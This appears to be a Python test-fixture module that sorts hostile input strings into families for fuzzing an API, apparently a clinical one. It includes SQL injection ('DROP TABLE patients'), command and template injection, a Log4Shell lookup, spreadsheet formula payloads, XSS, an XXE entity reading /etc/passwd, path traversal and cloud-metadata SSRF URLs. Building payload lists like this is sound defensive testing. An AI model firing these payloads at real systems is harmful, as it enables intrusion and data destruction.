"""Hostile text, by family: what is sent where a string is expected, in a body or in a query."""

from uuid import UUID

SAME = "01a212f6-4109-70c5-a266-d513cbb740a6"
"""An id that belongs to nothing."""

BLANK = ["", " ", "\t", "\u00a0", "\u200b", "\u3000", "\ufeff", "\u2060", " \u200b ", "\n"]
CONTROLS = [chr(n) for n in range(32)] + [f"a{chr(n)}b" for n in (0, 8, 0x7F, 0x80, 0x85, 0x9F)]
SURROGATES = ["\ud800", "\udfff", "a\udc00b", "\udc00\ud800", "\ud83d", "x" * 199 + "\ud800"]
UNICODE = [
    *("\U0001f600", "\U0001f468\u200d\U0001f469\u200d\U0001f467", "e" + "\u0301" * 60, "\u202eabc"),
    *("a\u2028b", "a\u2029b", "\u2066a\u2069", "\ufffe", "\uffff", "\U0001ffff", "\U0010ffff"),
    *("\U000e0001", "\ue000", "\u0440\u0430tient", "\uff11\uff12", "\u00df", "\ufb01", "\u0130"),
    *("\u0131", "A\u030a", "\u00c5", "\ufdfa" * 100, "\u0e49" * 50, "\u1d2c", "\u2126", "\u017f"),
    *(
        "\u05e9\u05dc\u05d5\u05dd",
        "\u0645\u0631\u062d\u0628\u0627",
        "\u4f60\u597d",
        "\u00ad",
        "\u034f",
    ),
]
NUMERALS = [
    *("5", "5.0", "-1", "+1", "1e3", "1_000", "0x10", "0o7", "0b1", "NaN", "Infinity", "-0", "1,0"),
    *("\u0663", "\u096f", "\u00bd", "\u2168", "9007199254740993", "9" * 40, "9" * 400, "0" * 100),
    *(
        "2147483648",
        "-2147483649",
        "9223372036854775808",
        "18446744073709551616",
        "1e999",
        "00",
        ".5",
    ),
]
WORDS = [
    *("true", "false", "null", "undefined", "None", "nil", "yes", "on", "TRUE", "all", "*", "me"),
    *("admin", "system", "clinician", "active", "care_team", "research", "done", "dosing"),
]
DATES = [
    *("2026-02-30", "2025-02-29", "0000-01-01", "0001-01-01", "9999-12-31", "10000-01-01"),
    *("-0001-01-01", "20260101", "2026-W01-1", "2026-001", "2026-1-1", "26-01-01", "01/02/2026"),
    *(
        "2026-01-01T00:00:00",
        "2026-01-01T00:00:00Z",
        "2026-01-01T24:00:00Z",
        "2026-01-01T23:59:60Z",
    ),
    *("2026-01-01T00:00:00+14:00", "2026-01-01T00:00:00+99:99", "0001-01-01T00:00:00+14:00"),
    *("9999-12-31T23:59:59-14:00", "2026-01-01T00:00:00+00:00:30", "2026-01-01 00:00:00Z"),
    *("2026-01-01T00:00:00.1234567890123Z", "2026-01-01T00:00:00." + "9" * 40 + "Z"),
    *("2026-03-08T02:30:00-07:00", "1969-12-31T23:59:59Z", "2200-01-01", "2200-01-02T00:00:00Z"),
    *(
        "2199-12-31T23:59:59-14:00",
        "1850-01-01",
        "1849-12-31T23:59:59Z",
        "1850-01-01T00:00:00+14:00",
    ),
    *("now", "today", "24:00", "25:61", "2026-01-01T00:00:00z", "2026-01-01t00:00:00Z"),
    *("\u0662\u0660\u0662\u0666-\u0660\u0661-\u0660\u0661", "2026-01-01T00:00:00-00:00", "P1D"),
    *("2024-02-29", "1900-02-29", "2026-11-25", "2026-11-25T12:00:00+02:30", "2026-13-01"),
]
IDS = [
    *(SAME, SAME.upper(), f"{{{SAME}}}", f"urn:uuid:{SAME}", SAME.replace("-", ""), SAME[:-1]),
    *(
        SAME + "0",
        f" {SAME}",
        f"{SAME}\n",
        f"{SAME}\x00",
        str(UUID(int=0)),
        str(UUID(int=2**128 - 1)),
    ),
    *("1", "0", SAME.replace("0", "\uff10"), "g" * 36, "-" * 36, f"{SAME},{SAME}", f"{SAME}/x"),
    "6ba7b810-9dad-11d1-80b4-00c04fd430c8",
]
SQL = [
    *(
        "'",
        '"',
        "''",
        "' OR '1'='1",
        "' OR 1=1--",
        "1; DROP TABLE patients",
        "'; DROP TABLE users;--",
    ),
    *(
        "' UNION SELECT NULL--",
        "1 UNION SELECT password_hash FROM accounts",
        "admin'--",
        "') OR ('1'='1",
    ),
    *(
        "1 AND SLEEP(5)",
        "'; SELECT pg_sleep(5)--",
        "1 OR randomblob(500000000)",
        "%' OR '%'='",
        "%",
        "_",
    ),
    *(
        "\\",
        "\\'",
        "\\\\",
        "$$",
        "$1",
        ":p",
        "?",
        "%s",
        "%(id)s",
        "/**/",
        "--",
        "#",
        "\u02bc",
        "\u2019",
    ),
    *(
        "0x27",
        "CHAR(39)",
        "\xbf'",
        "x' AND 1=(SELECT COUNT(*) FROM users)--",
        "; COPY x FROM PROGRAM 'id'",
    ),
    *(
        "' || (SELECT current_setting('x')) || '",
        "ESCAPE '",
        "COLLATE NOCASE",
        "[a-z]%",
        "{fn now()}",
    ),
]
OTHER_QUERIES = [
    *("*)(uid=*", "*)(|(uid=*", "admin)(&)", "\\2a", "cn=*", "*()|&'", "(|(objectClass=*))"),
    *('{"$gt": ""}', "[$ne]=1", "';return true;var a='", "$where", "' or count(/*)=1 or '", "//*"),
    *(
        "doc('http://x.example')",
        "x' or name()='username' or 'x'='y",
        "{ users { id } }",
        "__schema",
    ),
]
TEMPLATES = [
    *(
        "{{7*7}}",
        "${7*7}",
        "<%= 7*7 %>",
        "#{7*7}",
        "{{config}}",
        "{% raw %}",
        "{0.__class__}",
        "{",
        "}",
    ),
    *(
        "%s%s%s%n",
        "%(asctime)s",
        "%x",
        "$(id)",
        "`id`",
        "| id",
        "; ls",
        "&& ls",
        "${jndi:ldap://x/a}",
    ),
    *(
        "{{''.__class__.__mro__}}",
        "${{<%[%'\"}}%\\",
        "@(1+2)",
        "{clinic}",
        "{crisis}",
        "{when}",
        "{n}",
    ),
    *("<#assign x=1>", "*{7*7}", "~{x}", "!!python/object:os.system", "&a [*a]", 'O:8:"x":0:{}'),
]
FORMULAS = [
    *(
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://x","y")',
        "\t=1",
    ),
    *("\r=1", "\n=1", ";=1", "|calc", "=WEBSERVICE(A1)", "\uff1d1+1", '"=1', "DDE(1)"),
]
MARKUP = [
    *(
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "</text><script>",
        "]]>",
        "<!--",
    ),
    *("<svg/onload=alert(1)>", "&lt;", "&#0;", "&#xD800;", "&amp;&x;", "<![CDATA[x]]>", "</svg>"),
    *('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', "javascript:alert(1)"),
    *('" onmouseover="x', "<?php id ?>", "<?xml version='1.0'?>", "\x1b[31mred", "**b**", "[a](x)"),
    *("<font color='red'>x", "<b", "<para>", "<img src='http://x.example/a.png'/>", "&"),
]
PATHS = [
    *(
        "../../etc/passwd",
        "..\\..\\boot.ini",
        "%2e%2e%2f",
        "/dev/null",
        "C:\\x",
        "file:///etc/passwd",
    ),
    *(
        "CON",
        "....//",
        "\\\\host\\share",
        "~root",
        "x/../../y",
        "/",
        "//",
        ".",
        "..",
        "a/b",
        "%00",
        "%",
    ),
    *("%u0041", "%c0%ae", "..;/", "x?y=1", "x#y", "x;y=1"),
]
URLS = [
    *("http://169.254.169.254/latest/", "http://[::1]/", "https://0x7f000001/", "gopher://x:1/"),
    *(
        "https://a@127.0.0.1/",
        "https://example.com\\@127.0.0.1/",
        "//x.example",
        "https://x.example:0/",
    ),
    *(
        "dict://x",
        "https://" + "a." * 200 + "example/",
        "https://hooks.example/\r\nx: y",
        "data:,x",
    ),
]
LINES = [
    *("a\r\nSet-Cookie: x=1", "a\nb", "a\rb", "%0d%0aX: y", "a\x0bb", "a\x0cb", "a\u0085b"),
    *('W/"1"', '"1"', "Bearer x", "a, b", "a;q=1", "\x00\r\n"),
]
BOMBS = [
    *(
        "a" * 5000 + "!",
        "(a+)+$",
        "a@" * 500,
        "a." * 500 + "!",
        "-" * 3000,
        "1." * 1000,
        " " * 5000 + "x",
    ),
    *(
        "0" * 5000 + "x",
        "|" * 3000,
        "a|" * 2000,
        "\n" * 5000,
        "A" * 499 + "\u0130",
        "_" * 3000,
        "." * 3000,
    ),
]
LONG = [
    *(
        "x" * 41,
        "x" * 61,
        "x" * 101,
        "x" * 201,
        "x" * 255,
        "x" * 256,
        "x" * 501,
        "x" * 1001,
        "x" * 2001,
    ),
    *("x" * 4001, "x" * 10_001, "x" * 50_001, "x" * 100_000, "x" * 250_000, "\u00e9" * 70_000),
    *("\U0001f600" * 30_000, "a b " * 2000, "x\n" * 2000),
]
NAMES = [
    *(
        "__proto__",
        "constructor",
        "prototype",
        "toString",
        "__class__",
        "__init__",
        "__dict__",
        "self",
    ),
    *(
        "cls",
        "items",
        "keys",
        "_schema",
        "data_key",
        "unknown",
        "many",
        "partial",
        "actor",
        "values",
    ),
    *(
        "version",
        "asked",
        "",
        " ",
        "\x00",
        "\ud800",
        "a.b",
        "a/b",
        "~",
        "~1",
        "$ref",
        "$schema",
        "@type",
    ),
    *(
        "clinic_id",
        "0",
        "-1",
        "null",
        "n" * 300,
        "n" * 20_000,
        "\U0001f600",
        "Id",
        "ID",
        "i\u0064\u0301",
    ),
]
ADDRESSES = [
    *(
        "a@b",
        "a@b.example\n",
        '"a b"@c.example',
        "a@[127.0.0.1]",
        "a@xn--",
        "@",
        "a@@b.example",
        "a@.x",
    ),
    *(
        "admin@demo.example\x00",
        "a" * 250 + "@b.example",
        "a@" + "b" * 250 + ".example",
        "a@b..example",
    ),
    *(
        "A@B.EXAMPLE",
        "\u00e4@b.example",
        "a@\u00e4.example",
        "a+b@c.example",
        "<a@b.example>",
        "a@b,c@d",
    ),
]
WRAPPED = ['{"a": 1}', "[]", "[1, 2]", '"quoted"', "{'a': 1}", "a=1&b=2", "a\\u0000b", "\\ud800"]

FAMILIES: dict[str, list[str]] = {
    "blank": BLANK,
    "controls": CONTROLS,
    "surrogates": SURROGATES,
    "unicode": UNICODE,
    "numerals": NUMERALS,
    "words": WORDS,
    "dates": DATES,
    "ids": IDS,
    "sql": SQL,
    "other queries": OTHER_QUERIES,
    "templates": TEMPLATES,
    "formulas": FORMULAS,
    "markup": MARKUP,
    "paths": PATHS,
    "urls": URLS,
    "lines": LINES,
    "bombs": BOMBS,
    "long": LONG,
    "names": NAMES,
    "addresses": ADDRESSES,
    "wrapped": WRAPPED,
}
TEXTS: list[str] = list(dict.fromkeys(text for family in FAMILIES.values() for text in family))
"""Every hostile text, once."""
